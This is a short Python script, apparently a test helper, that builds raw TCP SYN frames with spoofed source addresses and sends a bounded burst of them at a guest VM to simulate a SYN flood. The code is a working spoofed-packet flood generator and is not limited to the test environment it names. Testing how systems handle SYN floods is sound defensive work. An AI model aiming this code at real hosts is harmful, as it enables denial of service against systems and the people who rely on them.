#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Spoofed TCP SYNs at a guest, as a SYN flood would send them (run inside the
test's namespace; needs CAP_NET_RAW):

    synflood.py IFACE DST_MAC DST_IP PORT COUNT SRC_NET

Sources are SRC_NET.100 to SRC_NET.199 with random ports and sequence
numbers: addresses nobody answers ARP for, so the guest's SYN-ACKs go
nowhere and every SYN leaves a half-open connection behind. Prints one JSON
line when done. Bounded by COUNT; paced in bursts so a TCG guest keeps up.
"""
import json
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_frame(dst_mac: bytes, src_mac: bytes, src: str, dst: str, sport: int, dport: int,
              seq: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6,
                     0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main(argv: list[str]) -> int:
    iface, dst_mac, dst_ip, port, count, src_net = argv[1:7]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    src_mac = s.getsockname()[4][:6]
    dmac = bytes(int(x, 16) for x in dst_mac.split(":"))
    start = time.monotonic()
    for i in range(int(count)):
        src = f"{src_net}.{100 + i % 100}"
        s.send(syn_frame(dmac, src_mac, src, dst_ip, random.randint(1024, 65535), int(port),
                         random.getrandbits(32)))
        if i % 50 == 49:
            time.sleep(0.005)
    print(json.dumps({"sent": int(count), "seconds": round(time.monotonic() - start, 3)}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
